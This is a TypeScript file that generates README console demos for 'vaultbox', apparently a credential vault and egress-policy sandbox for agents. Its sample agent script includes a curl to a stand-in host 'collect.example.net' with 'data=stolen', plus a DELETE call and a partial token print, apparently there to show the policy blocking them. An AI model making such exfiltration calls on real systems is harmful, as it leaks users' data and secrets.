/** Commands of one session in README.md, as a user types them; `#` is a comment that is shown and not run. */
export interface ReadmeSession {
  readonly name: string;
  readonly commands: readonly string[];
}

/** In the order of the file; they run one after another in one home, so a later one may use what an earlier one made. */
export const readmeSessions: readonly ReadmeSession[] = [
  {
    name: "first",
    commands: [
      "vaultbox credential add items --host api.example.com --bearer --env ITEMS_TOKEN < ~/token.txt",
      "vaultbox run --allow 'GET https://api.example.com/v1/**' -- sh agent.sh",
    ],
  },
  {
    name: "start",
    commands: [
      "cat agent.sh",
      "vaultbox credential list",
      "vaultbox policy explain --allow 'GET https://api.example.com/v1/**' GET https://api.example.com/v1/items",
    ],
  },
  {
    name: "policy",
    commands: ["cat vaultbox.yaml", "vaultbox trust --yes", "vaultbox policy show"],
  },
  { name: "audit", commands: ["vaultbox audit show", "vaultbox audit verify"] },
];

/** The script that stands for an agent. */
export const agentScript = `echo "token: $(echo $ITEMS_TOKEN | cut -c1-4)…"
curl -s https://api.example.com/v1/items
curl -s -X DELETE https://api.example.com/v1/items/1
curl -s https://collect.example.net/?data=stolen || true
`;

export const projectFile = `version: 1
egress:
  - host: docs.example.com
  - host: api.example.com
    allow: ["GET /v1/**", "POST /v1/items"]
    deny: ["* /v1/admin/**"]
limits: { requests: 500, upload: 10MB }
`;

/**
 * A session as it stands in README.md.
 * @param folder where it was typed, with the user's `home` and `project`
 */
export function toBlock(
  steps: readonly { readonly command: string; readonly output: string }[],
  folder: string,
): string {
  const lines = steps.flatMap(({ command, output }) => [
    `$ ${command}`,
    ...normalise(toUserPaths(output, folder))
      .trimEnd()
      .split("\n")
      .map((line) => line.trimEnd())
      .filter((line) => line !== ""),
  ]);
  return ["```console", ...lines, "```"].join("\n");
}

function toUserPaths(output: string, folder: string): string {
  return output
    .replaceAll(`${folder}/project`, "/home/you/project")
    .replaceAll(`${folder}/home`, "/home/you");
}

/** What differs from run to run, in a fixed form. */
function normalise(output: string): string {
  return output
    .replace(/\b[0-9a-f]{64}\b/g, "6b1f…")
    .replace(/\b[0-9a-f]{12}\b/g, "c8d6c9d60201")
    .replace(/\d{4}-\d\d-\d\d([T ])\d\d:\d\d:\d\d(?:\.\d+)?Z?/g, "2026-11-21$109:30:00")
    .replace(/\basserts=\d+/g, "asserts=48")
    .replace(/\b\d{4}-\d\d-\d\d\b/g, "2026-11-21")
    .replace(/\b\d\d:\d\d:\d\d(?:\.\d+)?\b/g, "09:30:00")
    .replace(/\b\d+(?:\.\d+)?[KMG]?B (up|down)\b/g, (_, way) => `${way === "up" ? 0 : 24}B ${way}`)
    .replace(/\b\d+(?:\.\d+)? ?(?:ms|s)\b/g, "4 ms")
    .replace(/^(?:TIME|09:30).*$/gm, (line) => line.replace(/ {2,}/g, "  "));
}
